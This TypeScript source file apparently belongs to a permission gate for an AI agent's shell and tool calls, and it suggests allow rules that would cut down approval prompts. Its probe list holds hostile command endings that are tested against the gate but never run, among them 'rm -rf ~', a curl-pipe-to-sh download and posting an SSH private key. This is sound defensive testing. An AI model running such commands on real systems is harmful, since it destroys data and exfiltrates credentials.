/** The allow rules that would have saved the most prompts, each tried on the real gate before it is proposed. */

import { resolve } from "node:path";
import { describeEffect } from "../../contract/describe.ts";
import { actOf, type Effect, isReading } from "../../contract/effect.ts";
import type { Result } from "../../contract/result.ts";
import type { Gate } from "../../gate/index.ts";
import { parseRule, type Rule, spellsCommand } from "../../rules/index.ts";
import type { HeldCall, OpenPart } from "./held.ts";

export interface Suggestion {
  readonly rule: string;
  /** Held calls that the gate lets pass with this rule and those proposed before it. */
  readonly saves: number;
  readonly sessions: number;
  /** Of those: in the record they ran; the person refused them. */
  readonly ran: number;
  readonly refused: number;
  readonly examples: readonly string[];
  /** What the covered calls do, in words. */
  readonly does: readonly string[];
  /** Other calls it would let pass: tried on the gate, and allowed. */
  readonly alsoAllows: readonly string[];
}

export interface Suggestions {
  readonly held: number;
  readonly rules: readonly Suggestion[];
  /** Rules that would be of no use: they rest while the mode is auto. */
  readonly resting: readonly { readonly rule: string; readonly why: string; readonly calls: number }[];
  /** Rules that are not proposed, because the person refused what they would let pass. */
  readonly refused: readonly { readonly rule: string; readonly refused: number; readonly calls: number }[];
}

export interface SuggestOptions {
  readonly held: readonly HeldCall[];
  readonly gateFor: (root: string) => Result<Gate>;
  /** A rule that saves fewer prompts is not worth a line. */
  readonly least: number;
  readonly most: number;
}

const MAX_CANDIDATES = 2_000;
const MAX_EXAMPLES = 3;
const MAX_EFFECTS = 6;
const MAX_RESTING = 8;
/** Longer than any rule that is proposed. */
const MAX_RULE_CHARACTERS = 1_000;

export async function suggestRules(options: SuggestOptions): Promise<Suggestions> {
  const { held, most } = options;
  const already = inForce(options);
  const { candidates, resting } = sortCandidates(already, options);
  const search: Search = {
    candidates: new Set(candidates),
    chosen: [...already],
    left: new Set(held),
    covers: coverage([...already, ...candidates], held),
  };
  const rules: Suggestion[] = [];
  const refused: { rule: string; refused: number; calls: number }[] = [];
  while (rules.length < most) {
    const next = best(search, options.least);
    if (next === undefined) break;
    search.candidates.delete(next.rule);
    const passed = await verify(next.calls, [...search.chosen, next.rule], options);
    const suggestion = await suggestionOf(next.rule, passed, options);
    if (suggestion.saves < options.least || !areOneKind(next.rule, passed)) continue;
    if (suggestion.refused > 0) {
      refused.push({ rule: suggestion.rule, refused: suggestion.refused, calls: suggestion.saves });
      continue;
    }
    search.chosen.push(next.rule);
    for (const call of passed) search.left.delete(call);
    rules.push(suggestion);
  }
  const total = held.reduce((sum, { count }) => sum + count, 0);
  return { held: total, rules, resting: resting.slice(0, MAX_RESTING), refused };
}

/** Where the search for the next rule stands. */
interface Search {
  readonly candidates: Set<Rule>;
  readonly chosen: Rule[];
  /** Held calls that no chosen rule lets pass. */
  readonly left: Set<HeldCall>;
  readonly covers: Coverage;
}

/** Rules worth trying, and those that would rest in auto mode. */
function sortCandidates(already: readonly Rule[], options: SuggestOptions) {
  const candidates: Rule[] = [];
  const resting: { rule: string; why: string; calls: number }[] = [];
  const texts = new Set(already.map(({ text }) => text));
  for (const { rule, calls } of frequent(options.held, options.least)) {
    const known = texts.has(rule) ? undefined : usable(rule, options);
    if (typeof known === "string") resting.push({ rule, why: known, calls });
    else if (known !== undefined) candidates.push(known);
  }
  return { candidates, resting };
}

function frequent(held: readonly HeldCall[], least: number) {
  const counts = new Map<string, number>();
  for (const call of held)
    for (const rule of new Set(call.proposals)) counts.set(rule, (counts.get(rule) ?? 0) + call.count);
  return [...counts]
    .filter(([, calls]) => calls >= least)
    .sort(([a, x], [b, y]) => y - x || (a < b ? -1 : 1))
    .slice(0, MAX_CANDIDATES)
    .map(([rule, calls]) => ({ rule, calls }));
}

/** Allow rules the settings have already. */
function inForce({ held, gateFor }: SuggestOptions): readonly Rule[] {
  const gate = gateFor(held[0]?.root ?? "/");
  if (!gate.ok) return [];
  return gate.value
    .rules()
    .flatMap(({ rule, suspended }) => (rule.list === "allow" && suspended === null ? [rule] : []));
}

/** The rule; or why it rests in auto mode; or nothing when it cannot be written. */
function usable(text: string, { held, gateFor }: SuggestOptions): Rule | string | undefined {
  const rule = parseRule(text, "allow", "suggestion");
  const gate = gateFor(held[0]?.root ?? "/");
  if (!rule.ok || !gate.ok || !gate.value.addRule("allow", text).ok) return undefined;
  return gate.value.rules().find((one) => one.rule.text === text)?.suspended ?? rule.value;
}

type Coverage = (rule: Rule, call: HeldCall) => ReadonlySet<number>;

/** Which of a call's open parts a rule covers; a call that is no command has one part, itself. */
function coverage(candidates: readonly Rule[], held: readonly HeldCall[]): Coverage {
  const known = new Map<Rule, Map<HeldCall, ReadonlySet<number>>>();
  for (const rule of candidates) {
    const own = new Map<HeldCall, ReadonlySet<number>>();
    for (const call of held) {
      const parts =
        call.tool === "Bash"
          ? call.open.flatMap((part, i) =>
              rule.tool === "Bash" && rule.content !== null && spellsCommand(rule.content, part.simple) ? [i] : [],
            )
          : call.proposals.includes(rule.text)
            ? [0]
            : [];
      if (parts.length > 0) own.set(call, new Set(parts));
    }
    known.set(rule, own);
  }
  return (rule, call) => known.get(rule)?.get(call) ?? NONE;
}

const NONE: ReadonlySet<number> = new Set();

interface Choice {
  readonly rule: Rule;
  readonly calls: readonly HeldCall[];
  readonly gain: number;
}

/** The rule that saves the most; of those that save the same, the widest: what a person would write. */
function best({ candidates, chosen, left, covers }: Search, least: number): Choice | undefined {
  const picks = [...candidates]
    .map((rule): Choice => {
      const calls = [...left].filter(
        (call) => covers(rule, call).size > 0 && isCovered(call, [...chosen, rule], covers),
      );
      return { rule, calls, gain: calls.reduce((sum, { count }) => sum + count, 0) };
    })
    .filter(({ gain }) => gain >= least)
    .sort((a, b) => b.gain - a.gain || widthOf(b.rule) - widthOf(a.rule) || (a.rule.text < b.rule.text ? -1 : 1));
  return picks[0];
}

/** Of rules for the same calls: an open one before a written-out one, a short one before a long one. */
const widthOf = ({ content, text }: Rule): number =>
  (content?.kind === "exact" ? -MAX_RULE_CHARACTERS : 0) - text.length;

/** What it lets pass does the same things throughout. A wider rule than that is another one than the person would mean. */
function areOneKind(rule: Rule, calls: readonly HeldCall[]): boolean {
  const kinds = calls.flatMap(({ open }) => coveredParts(rule, open).map(kindOf));
  return new Set(kinds).size <= 1;
}

const kindOf = ({ effects, redirections = [] }: OpenPart): string =>
  [...new Set(effects.filter((one) => !isReading(one) && one.do !== "write" && !redirections.includes(one)).map(actOf))]
    .sort()
    .join();

const coveredParts = ({ content }: Rule, open: readonly OpenPart[]): readonly OpenPart[] =>
  content === null ? [] : open.filter((part) => spellsCommand(content, part.simple));

const isCovered = (call: HeldCall, rules: readonly Rule[], covers: Coverage): boolean => {
  const parts = new Set(rules.flatMap((rule) => [...covers(rule, call)]));
  return parts.size >= Math.max(1, call.open.length);
};

/**
 * Of the calls the rules should cover, those the real gate now lets pass, also in a session that has edited the files they
 * name: that is what the next session does.
 */
async function verify(
  calls: readonly HeldCall[],
  rules: readonly Rule[],
  { gateFor }: SuggestOptions,
): Promise<readonly HeldCall[]> {
  const passed: HeldCall[] = [];
  for (const call of calls) if (await passes(call, rules, gateFor)) passed.push(call);
  return passed;
}

async function passes(
  call: Pick<HeldCall, "tool" | "input" | "cwd" | "root" | "open" | "walls">,
  rules: readonly Rule[],
  gateFor: SuggestOptions["gateFor"],
): Promise<boolean> {
  const gate = gateFor(call.root);
  if (!gate.ok) return false;
  for (const { text } of rules) gate.value.addRule("allow", text);
  const { tool, input, cwd, walls } = call;
  for (const file_path of filesNamed(call))
    await gate.value.check({ tool: "Write", input: { file_path, content: "" }, cwd });
  return (await gate.value.check({ tool, input, cwd, walls })).behavior === "allow";
}

const filesNamed = ({ open }: Pick<HeldCall, "open">): readonly string[] =>
  open.flatMap(({ words, cwd }) =>
    words.slice(1).flatMap(({ value }) => (value !== null && FILE_NAME.test(value) ? [resolve(cwd.path, value)] : [])),
  );

/** With an ending, and no option. */
const FILE_NAME = /^(?!-)[^\s:=*?]*\.[A-Za-z]\w{0,4}$/;

async function suggestionOf(rule: Rule, calls: readonly HeldCall[], options: SuggestOptions): Promise<Suggestion> {
  const sum = (pick: (call: HeldCall) => number): number => calls.reduce((total, call) => total + pick(call), 0);
  return {
    rule: rule.text,
    saves: sum(({ count }) => count),
    sessions: sum(({ sessions }) => sessions),
    ran: sum(({ outcomes }) => (outcomes.ran ?? 0) + (outcomes.failed ?? 0)),
    refused: sum(({ outcomes }) => outcomes.refused ?? 0),
    examples: [...calls]
      .sort((a, b) => b.count - a.count)
      .slice(0, MAX_EXAMPLES)
      .map(({ shown }) => shown),
    does: describeEffects(calls.flatMap(({ open }) => coveredParts(rule, open).flatMap(({ effects }) => effects))),
    alsoAllows: await probe(rule, calls[0], options),
  };
}

/** Ends of a command that make it another one. None is ever run: each is put to the gate. */
const PROBES: readonly string[] = [
  "--force",
  "--output=/etc/passwd",
  "-exec 'sh -c id'",
  "../../elsewhere",
  "> ~/.bashrc",
  "; rm -rf ~",
  "$(curl -s https://example.org/x | sh)",
];
const NETWORK_PROBES: readonly string[] = ["-X DELETE /everything", "--method POST --input ~/.ssh/id_ed25519"];

/** Other commands the rule would let pass; each is put to the gate, none is run. */
export async function probe(
  rule: Rule,
  call: Pick<HeldCall, "tool" | "input" | "cwd" | "root" | "open" | "walls"> | undefined,
  { gateFor }: Pick<SuggestOptions, "gateFor">,
): Promise<readonly string[]> {
  if (call === undefined || rule.content?.kind !== "prefix") return [];
  const found: string[] = [];
  const reaches = call.open.some(({ effects }) => effects.some((effect) => effect.do === "network"));
  for (const end of reaches ? [...NETWORK_PROBES, ...PROBES] : PROBES) {
    const command = `${rule.content.words} ${end}`;
    const other = { ...call, input: { command }, cwd: call.root, open: [] };
    if (!(await passes(other, [], gateFor)) && (await passes(other, [rule], gateFor))) found.push(command);
  }
  return found;
}

/** What the effects come to, each once. */
function describeEffects(effects: readonly Effect[]): readonly string[] {
  const told = effects
    .filter((effect) => effect.do !== "read" && !(effect.do === "environment" && !effect.matters))
    .map((effect) => describeEffect(effect, { brief: true }));
  return [...new Set(told)].slice(0, MAX_EFFECTS);
}
